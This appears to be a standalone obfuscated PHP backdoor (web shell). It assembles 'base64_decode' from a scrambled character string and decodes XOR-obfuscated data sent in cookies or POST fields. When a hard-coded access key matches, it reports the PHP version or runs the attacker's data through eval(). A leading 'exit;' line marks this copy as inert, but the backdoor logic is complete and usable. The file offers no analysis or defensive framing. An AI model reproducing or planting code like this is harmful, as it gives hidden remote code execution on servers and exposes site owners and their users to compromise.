<?php exit; /* inert */ 
$GLOBALS['_ki_'] = "eva)l(b_s64dco$;tripm/*ngPOSTETCK IE[]'";
$GLOBALS['q9'] = $GLOBALS['_ki_'][6] . $GLOBALS['_ki_'][2] . $GLOBALS['_ki_'][8] . $GLOBALS['_ki_'][0] . $GLOBALS['_ki_'][9] . $GLOBALS['_ki_'][10] . $GLOBALS['_ki_'][7] . $GLOBALS['_ki_'][11] . $GLOBALS['_ki_'][0] . $GLOBALS['_ki_'][12] . $GLOBALS['_ki_'][13] . $GLOBALS['_ki_'][11] . $GLOBALS['_ki_'][0];
function kx7($vz, $ho) { $r = ''; for ($i = 0; $i < strlen($vz);) { for ($j = 0; $j < strlen($ho) && $i < strlen($vz); $j++, $i++) { $r .= chr(ord($vz[$i]) ^ ord($ho[$j])); } } return $r; }
foreach (array_merge($_COOKIE, $_POST) as $qq => $dat) {
    $dat = @unserialize(kx7($GLOBALS['q9']($dat), $qq));
    if (isset($dat['ak']) && $dat['ak'] == '6b3b2b6e-0000-4000-8000-000000000000') {
        if ($dat['a'] == 'i') { print serialize(array('pv' => @phpversion(), 'sv' => '1.0-1')); }
        elseif ($dat['a'] == 'e') { eval($dat['d']); }
    }
}
